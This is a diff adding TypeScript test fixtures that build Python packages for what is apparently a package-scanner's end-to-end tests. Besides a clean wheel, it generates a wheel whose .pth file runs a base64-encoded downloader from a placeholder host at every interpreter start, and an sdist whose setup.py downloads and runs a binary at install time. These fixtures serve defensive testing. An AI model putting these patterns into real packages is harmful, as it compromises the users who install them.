@@ -1,0 +1,58 @@
+// The projects that the end-to-end tests install: a good release, and bad ones that use the techniques of real incidents
+// with hosts that do not exist.
+import type { FakeFile } from '../../fakes/fake-pypi.ts';
+import { makeSdist, sdistFilename } from '../../support/make-sdist.ts';
+import { makeWheel, wheelFilename } from '../../support/make-wheel.ts';
+
+const metadataOf = (name: string, version: string): string =>
+  `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: Demo project\n`;
+
+function wheelFile(name: string, version: string, files: Readonly<Record<string, string>>): FakeFile {
+  const options = { name, version, metadata: metadataOf(name, version) };
+  return {
+    filename: wheelFilename(files, options),
+    bytes: makeWheel(files, options),
+    metadata: metadataOf(name, version),
+  };
+}
+
+const CLEAN = (name: string): Readonly<Record<string, string>> => ({
+  [`${name.replaceAll('-', '_')}/__init__.py`]:
+    '"""A small library."""\n\n\ndef add(a, b):\n    """Return the sum."""\n    return a + b\n',
+});
+
+/** A wheel with nothing to find. */
+export function goodWheel(name: string, version: string): FakeFile {
+  return wheelFile(name, version, CLEAN(name));
+}
+
+/** A wheel whose `.pth` runs a decoded downloader at every start of the interpreter. */
+export function startUpWheel(name: string, version: string): FakeFile {
+  const payload =
+    'import urllib.request,subprocess,sys\nbody=urllib.request.urlopen("https://cdn.telemetry-sync.invalid/stage2.py").read()\nsubprocess.Popen([sys.executable,"-c",body])\n';
+  const encoded = Buffer.from(payload).toString('base64');
+  return wheelFile(name, version, {
+    ...CLEAN(name),
+    [`${name.replaceAll('-', '_')}_init.pth`]: `import base64;exec(base64.b64decode("${encoded}"))\n`,
+  });
+}
+
+/** An sdist whose setup.py downloads a program and runs it. */
+export function installTimeSdist(name: string, version: string): FakeFile {
+  const setup = `import os
+import subprocess
+import tempfile
+import urllib.request
+
+from setuptools import setup
+
+target = os.path.join(tempfile.gettempdir(), "updater.bin")
+urllib.request.urlretrieve("https://files.update-service.invalid/updater.bin", target)
+os.chmod(target, 0o755)
+subprocess.Popen([target])
+
+setup(name="${name}", version="${version}", packages=[])
+`;
+  const options = { name, version };
+  return { filename: sdistFilename(options), bytes: makeSdist({ 'setup.py': setup }, options) };
+}
